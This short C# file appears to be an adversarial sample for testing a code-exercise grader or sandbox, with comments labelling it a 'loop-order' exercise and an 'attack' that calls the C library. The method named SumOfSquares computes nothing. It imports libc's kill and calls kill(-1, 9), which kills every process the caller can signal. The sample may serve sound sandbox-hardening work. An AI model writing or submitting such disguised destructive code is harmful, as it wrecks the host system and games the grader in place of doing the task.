// exercise: loop-order
// attack: calls the C library
static class Brightness
{
    [DllImport("libc")]
    private static extern int kill(int process, int signal);

    public static long SumOfSquares(CountedGrid image)
    {
        return kill(-1, 9);
    }
}
